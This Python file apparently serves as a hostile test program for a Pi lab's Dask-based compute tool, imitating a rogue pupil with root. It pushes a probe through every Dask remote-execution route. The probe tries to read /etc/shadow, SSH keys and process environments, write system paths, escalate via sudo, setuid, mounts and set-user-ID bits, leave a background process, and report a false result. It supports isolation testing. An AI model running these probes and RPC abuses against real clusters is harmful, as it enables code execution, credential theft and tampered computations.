"""What a pupil with root puts in the place of `pilab spread`: Dask without any limits that asks others to do things.

It runs on the system Python of the board, outside any sandbox, and writes what it got to /root/got.json.
"""

# It is code of somebody who does not keep our rules.
# ruff: noqa: ANN001, ANN002, ANN003, ANN201, ANN202, ASYNC110, ASYNC230, BLE001, I001, INP001, PLC0415, PTH101, PTH123, PTH208, S103, S108
from __future__ import annotations

import asyncio
import json
import os
import sys
import time

sys.path.insert(0, "/opt/pilab")

from agent.spread import heartbeat
from agent.spread.forwarding import KINDS, Forwarding
from distributed import Client, Scheduler
from distributed.core import rpc
from distributed.protocol.pickle import dumps

GOT = "/root/got.json"
LIMIT_S = 8
# How much longer it waits for the first way that runs something, where one is known to: a busy board takes its time.
PATIENCE_S = float(os.environ.get("HOSTILE_PATIENCE_S", "0"))
LEFT_BEHIND = ["sleep", "86397"]


def probe():
    """Try whatever a hostile program would; it travels by value, so it brings all that it needs."""
    import os
    import pathlib
    import socket
    import subprocess

    def attempt(deed):
        try:
            return f"done: {deed()!r}"[:200]
        except BaseException as error:
            return f"denied: {error!r}"[:200]

    def connected(address, port):
        with socket.socket() as one:
            one.settimeout(2)
            one.connect((address, port))

    def program(*words):
        done = subprocess.run(words, capture_output=True, timeout=5, check=False)
        if done.returncode:
            raise OSError(done.stderr)

    read = [
        "/etc/shadow",
        "/home/teacher/.ssh/authorized_keys",
        "/root/secret",
        "/var/lib/pilab/secret",
        "/etc/pilab/secret",
        "/var/log/dpkg.log",
        "/run/secret",
        "/proc/1/environ",
        "/boot/config.txt",
        "/boot/firmware/config.txt",
    ]
    written = [
        "/tmp",
        "/var/tmp",
        "/opt/pilab",
        "/etc",
        "/dev/shm",
        "/run",
        "/run/lock",
        "/var/lib/pilab",
        "/home/teacher",
        "/root",
    ]
    pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    family = {os.getpid(), os.getppid()}
    found = {f"read {path}": attempt(pathlib.Path(path).read_text) for path in read}
    found |= {
        f"list {path}": attempt(lambda path=path: os.listdir(path)[0])
        for path in ("/home", "/root", "/var/lib", "/dev/shm", "/opt/other")
    }
    found |= {
        f"write {path}": attempt(lambda path=path: pathlib.Path(path, "hostile").write_text("x")) for path in written
    }
    found |= {
        f"reach {address}:{port}": attempt(lambda to=(address, port): connected(*to))
        for address, port in (("127.0.0.1", 22), ("10.77.0.1", 22), ("127.0.1.1", 22), ("8.8.8.8", 53))
    }
    found["sockets of services"] = attempt(lambda: socket.socket(socket.AF_UNIX))
    found["raw sockets"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    found["packets"] = attempt(lambda: socket.socket(socket.AF_PACKET))
    found["sudo"] = attempt(lambda: program("sudo", "-n", "true"))
    found["sudo -l"] = attempt(lambda: program("sudo", "-n", "-l"))
    found["systemctl"] = attempt(lambda: program("systemctl", "list-units"))
    found["root"] = attempt(lambda: os.setuid(0))
    found["signal 1"] = attempt(lambda: os.kill(1, 0))
    found["a network of others"] = attempt(lambda: program("nsenter", "-t", "1", "-n", "true"))
    found["namespaces"] = attempt(lambda: program("unshare", "-Ur", "true"))
    found["mounts"] = attempt(lambda: program("mount", "-t", "tmpfs", "none", "/mnt"))
    found["set-user-ID"] = attempt(lambda: (pathlib.Path("/mnt/x").write_text("x"), os.chmod("/mnt/x", 0o4755)))
    found["fills"] = attempt(lambda: pathlib.Path("/mnt/large").write_bytes(bytes(2**25)))
    found["others seen"] = "denied" if len(pids) <= 6 and 1 not in pids else f"done: {pids}"
    subprocess.Popen(["sleep", "86397"], start_new_session=True)
    return {"uid": os.getuid(), "tries": found, "family": len(family)}


async def ways(address: str, there: str = ""):
    """Ask in every way that Dask has; `there` is a worker that can be reached at once."""

    async def client(ask):
        async with Client(address, asynchronous=True, timeout=LIMIT_S) as one:
            return await ask(one)

    async def asked(to, **message):
        one = rpc(to)
        try:
            op = message.pop("op")
            return await getattr(one, op)(**message)
        finally:
            await one.close_rpc()

    code = dumps(probe)
    with open("/root/module.py", "w") as file:
        file.write("import os; os.system('sleep 86397 &')\n")
    found = {
        "run": lambda: client(lambda one: one.run(probe)),
        "submit": lambda: client(lambda one: one.submit(probe, pure=False)),
        "run_on_scheduler": lambda: client(lambda one: one.run_on_scheduler(probe)),
        "upload_file": lambda: client(lambda one: one.upload_file("/root/module.py")),
        "scheduler run_function": lambda: asked(address, op="run_function", function=code, wait=True),
        "scheduler broadcast": lambda: asked(address, op="broadcast", msg={"op": "run", "function": code}),
        "scheduler feed": lambda: asked(address, op="feed", function=code, setup=None, teardown=None, interval=1),
        "scheduler proxy": lambda: asked(address, op="proxy", msg={"op": "run", "function": code}, worker=there),
        "scheduler plugin": lambda: asked(address, op="register_worker_plugin", comm=None, plugin=code, name="x"),
    }
    if there:
        found |= {
            "worker run": lambda: asked(there, op="run", function=code, wait=True),
            "worker run_coroutine": lambda: asked(there, op="run_coroutine", function=code, wait=True),
            "worker plugin": lambda: asked(there, op="plugin_add", plugin=code, name="x"),
            "worker upload": lambda: asked(there, op="upload_file", filename="x.py", data="import os", load=True),
            "worker actor": lambda: asked(there, op="actor_execute", function="x", actor="x", args=(), kwargs={}),
        }
    return found


def result(asking, wanted=""):
    """Tell what a way has given so far; nothing where the answer has not what is wanted."""
    try:
        answer = asking.result()
    except BaseException as error:
        return {"refused": repr(error)[:300]}
    if wanted not in repr(answer):
        return {}
    return {"answered": answer if "'tries'" in repr(answer) else repr(answer)[:300]}


async def attack(address: str, there: str = "") -> None:
    # wait_for would wait for the end of what it gives up, which Dask 2021.01 puts off for ever.
    asking = {name: asyncio.ensure_future(way()) for name, way in (await ways(address, there)).items()}
    await asyncio.wait(asking.values(), timeout=LIMIT_S)
    given_up_s = time.monotonic() + PATIENCE_S
    while time.monotonic() < given_up_s and not any("answered" in result(each, "'tries'") for each in asking.values()):
        await asyncio.sleep(1)
    got = {name: result(each) for name, each in asking.items()}
    with open(GOT, "w") as file:
        json.dump(got, file, default=repr)


async def as_worker(scheduler: int, port: int) -> None:
    relay, loop = Forwarding(heartbeat.send, port, leads=False), asyncio.get_running_loop()
    heartbeat.start(lambda facts: loop.call_soon_threadsafe(relay.receive, facts))
    await relay.listen([scheduler])
    heartbeat.send(kind="ready")
    await asyncio.sleep(1)
    await attack(f"tcp://127.0.0.1:{scheduler}")
    await asyncio.sleep(600)


async def as_lead(port: int, workers: list) -> None:
    """Lead as an honest board does until an order comes; then attack the others, and lie about a chunk."""
    relay, loop, ordered = Forwarding(heartbeat.send, port, leads=True), asyncio.get_running_loop(), asyncio.Queue()

    def hear(facts):
        loop.call_soon_threadsafe(relay.receive if facts["kind"] in KINDS else ordered.put_nowait, facts)

    heartbeat.start(hear)
    await relay.listen(workers)
    async with Scheduler(host="127.0.0.1", port=port, dashboard=False, dashboard_address="127.0.0.1:0"):
        heartbeat.send(kind="ready")
        order = await ordered.get()
        await attack(f"tcp://127.0.0.1:{port}", f"tcp://127.0.0.1:{workers[-1]}")
        number, additions = order["chunks"][0]
        heartbeat.send(kind="chunk", order=order["order"], chunk=number, port=port, sum=additions, loop_ns=1)
        await asyncio.sleep(600)


words = sys.argv[1:]
if "lead" in words:
    asyncio.run(
        as_lead(
            int(words[words.index("--scheduler") + 1]), [int(each) for each in words[words.index("--workers") + 1 :]]
        )
    )
else:
    asyncio.run(as_worker(int(words[words.index("--scheduler") + 1]), int(words[words.index("--port") + 1])))
